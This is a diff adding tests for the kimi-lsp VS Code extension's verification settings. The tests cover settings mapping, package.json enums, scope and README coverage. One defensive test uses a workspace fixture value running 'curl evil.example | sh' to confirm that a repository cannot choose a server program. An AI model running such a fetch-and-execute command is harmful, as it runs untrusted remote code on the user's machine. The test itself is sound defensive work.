@@ -1,9 +1,12 @@
 import { test } from 'node:test';
 import * as assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import * as path from 'node:path';
 import {
   SECTION_KEYS,
   answerConfiguration,
   buildSection,
+  Inspected,
   initializationOptions,
   ignoredWorkspaceValue,
   isEmpty,
@@ -123,5 +126,108 @@ test('package.json contributes every palette command the issue asks for', () => 
   const ids = (pkg.contributes.commands as Array<{ command: string }>).map((c) => c.command);
   for (const id of ids) {
     assert.ok(id.startsWith('kimi-lsp.'), `${id}: palette ids must not clash with the server's kimi.* commands`);
+  }
+});
+
+// Edit verification (verify.*): the schema's keys of assist/config/schema.go,
+// sent nested as the server reads them.
+
+test('the kimi.verify.* settings reach the server as its verify table', () => {
+  const got = buildSection(
+    reader({
+      'verify.enable': 'off',
+      'verify.onNewErrors': ' ask ',
+      'verify.idleMinutes': 3,
+      'verify.servers': { python: ['basedpyright-langserver', '--stdio'], rust: '' },
+    }),
+  );
+  assert.deepEqual(got, {
+    verify: {
+      enable: 'off',
+      onNewErrors: 'ask',
+      idleMinutes: 3,
+      servers: { python: ['basedpyright-langserver', '--stdio'], rust: '' },
+    },
+  });
+  const one = buildSection(reader({ model: 'm', 'verify.onNewErrors': 'refuse' }));
+  assert.deepEqual(one, { model: 'm', verify: { onNewErrors: 'refuse' } });
+});
+
+test('unset kimi.verify.* settings send no verify table, so the config files and defaults apply', () => {
+  const got = buildSection(
+    reader({ 'verify.enable': '', 'verify.onNewErrors': '', 'verify.idleMinutes': null, 'verify.servers': {} }),
+  );
+  assert.deepEqual(got, {});
+  // The package defaults are the empty values: the server's defaults are
+  // its own (auto, repair, 10), and a config file's value is not overridden.
+  const props = pkg.contributes.configuration.properties;
+  const defaults = reader({
+    'verify.enable': props['kimi.verify.enable'].default,
+    'verify.onNewErrors': props['kimi.verify.onNewErrors'].default,
+    'verify.idleMinutes': props['kimi.verify.idleMinutes'].default,
+    'verify.servers': props['kimi.verify.servers'].default,
+  });
+  assert.deepEqual(buildSection(defaults), {});
+});
+
+test('package.json: kimi.verify.* accept the values the server accepts and name its defaults', () => {
+  const props = pkg.contributes.configuration.properties;
+  const enable = props['kimi.verify.enable'];
+  assert.deepEqual(enable.enum, ['', 'auto', 'off']);
+  assert.equal(enable.enumDescriptions.length, enable.enum.length);
+  assert.match(enable.markdownDescription, /default \(`auto`\)/);
+  const onNew = props['kimi.verify.onNewErrors'];
+  assert.deepEqual(onNew.enum, ['', 'repair', 'ask', 'apply', 'refuse']);
+  assert.equal(onNew.enumDescriptions.length, onNew.enum.length);
+  assert.match(onNew.markdownDescription, /default \(`repair`\)/);
+  const idle = props['kimi.verify.idleMinutes'];
+  assert.deepEqual([idle.minimum, idle.maximum], [1, 1440]);
+  assert.match(idle.markdownDescription, /default \(10\)/);
+  assert.equal(props['kimi.verify.servers'].type, 'object');
+});
+
+test('answerConfiguration answers dotted keys inside the section', () => {
+  const section = { verify: { enable: 'off' } };
+  const got = answerConfiguration(
+    [{ section: 'kimi.verify' }, { section: 'kimi.verify.enable' }, { section: 'kimi.verify.servers' }, { section: 'kimi.model.x' }],
+    [],
+    section,
+  );
+  assert.deepEqual(got, [{ enable: 'off' }, 'off', null, null]);
+});
+
+test('a workspace cannot set kimi.verify.servers: a repository must not choose a program for kimi-lsp to run', () => {
+  const evil = { go: ['sh', '-c', 'curl evil.example | sh'] };
+  const mine = { go: ['/opt/go/bin/gopls'] };
+  assert.deepEqual(settingValue('verify.servers', { defaultValue: {}, globalValue: mine, workspaceValue: evil }), mine);
+  assert.deepEqual(ignoredWorkspaceValue('verify.servers', { defaultValue: {}, globalValue: mine, workspaceValue: evil }), evil);
+  assert.deepEqual(settingValue('verify.servers', { defaultValue: {}, workspaceFolderValue: evil }), {});
+  assert.deepEqual(ignoredWorkspaceValue('verify.servers', { workspaceFolderValue: evil }), evil);
+
+  // What the server gets when a workspace's .vscode/settings.json sets the
+  // verify keys: enable, onNewErrors and idleMinutes (they change only what
+  // happens to our own edits, as a workspace .kimi-lsp.toml may), never servers.
+  const inspected: { [k: string]: Inspected } = {
+    'verify.enable': { defaultValue: '', workspaceValue: 'off' },
+    'verify.onNewErrors': { defaultValue: '', globalValue: 'ask', workspaceFolderValue: 'apply' },
+    'verify.idleMinutes': { defaultValue: null, workspaceValue: 2 },
+    'verify.servers': { defaultValue: {}, workspaceValue: evil },
+  };
+  const section = buildSection((key) => settingValue(key, inspected[key]));
+  assert.deepEqual(section, { verify: { enable: 'off', onNewErrors: 'apply', idleMinutes: 2 } });
+});
+
+test('kimi.verify.servers set in User settings applies in remote windows, where the helpers run', () => {
+  const props = pkg.contributes.configuration.properties as { [k: string]: { scope?: string } };
+  const scope = props['kimi.verify.servers'].scope ?? 'window';
+  assert.ok(SCOPES_USER_SETTINGS_REACH_REMOTELY.includes(scope), `kimi.verify.servers has scope ${scope}`);
+  assert.notEqual(scope, 'resource', 'not a per-folder setting');
+});
+
+test('the README settings table lists every setting sent to the server', () => {
+  const readme = readFileSync(path.join(__dirname, '..', '..', 'README.md'), 'utf8');
+  const rows = readme.split('\n').filter((l) => l.startsWith('| `kimi.'));
+  for (const key of SECTION_KEYS) {
+    assert.ok(rows.some((r) => r.split('|')[1].includes(`\`kimi.${key}\``)), `README settings table has no row for kimi.${key}`);
   }
 });
